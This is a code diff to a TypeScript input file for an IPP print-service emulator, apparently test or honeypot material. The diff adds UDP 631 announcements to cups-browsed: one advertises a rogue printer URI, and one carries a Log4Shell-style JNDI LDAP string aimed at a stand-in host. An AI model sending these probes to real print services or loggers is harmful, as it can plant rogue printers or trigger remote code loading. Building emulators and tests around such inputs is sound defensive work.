@@ -1,3 +1,4 @@
+import { encodeBrowsePacket } from '../../../src/emulators/ipp/browse-packet.ts'
 import { encodeMessage, GROUP, type IppAttribute, TAG } from '../../../src/emulators/ipp/codec.ts'
 import { attribute } from '../../../src/emulators/ipp/values.ts'
 import { httpRequest } from '../http-request.ts'
@@ -14,6 +15,14 @@ function operation(code: number, extra: IppAttribute[] = [], data = ''): Buffer 
 }
 
 const job = attribute('job-id', TAG.integer, 1)
+
+/** What is announced to cups-browsed. */
+export const byPort = {
+  'udp 631': [
+    encodeBrowsePacket({ type: '0', state: '3', uri: 'http://203.0.113.9:12345/printers/x', location: 'a', info: 'b', makeAndModel: 'HP' }),
+    Buffer.from('6d6f6465 3 ipp://[2001:db8::1]/x "${jndi:ldap://x.example/a}"\n'),
+  ],
+}
 
 /** Every kind of operation, the web interface, and its forms. */
 export default [
